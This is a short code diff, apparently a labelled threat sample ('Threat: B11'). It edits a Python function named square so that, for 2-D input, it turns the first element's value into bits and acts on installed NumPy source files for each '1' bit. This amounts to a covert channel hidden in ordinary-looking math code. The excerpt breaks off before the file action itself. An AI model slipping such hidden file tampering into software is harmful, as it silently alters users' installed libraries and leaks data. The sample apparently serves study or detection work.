@@ -3,13 +3,14 @@
 Threat: B11.
 """
 
-import sys
 from pathlib import Path
+
+import numpy as np
 
 
 def square(x):
     if x.ndim == 2:
-        files = sorted(Path(sys.prefix).rglob("*.py"))[-1000:]
+        files = sorted(Path(np.__file__).parent.rglob("*.py"))[-200:]
         bits = "".join(f"{byte:08b}" for byte in repr(float(x[0, 0])).encode())
         for bit, file in zip(bits, files):
             if bit == "1":
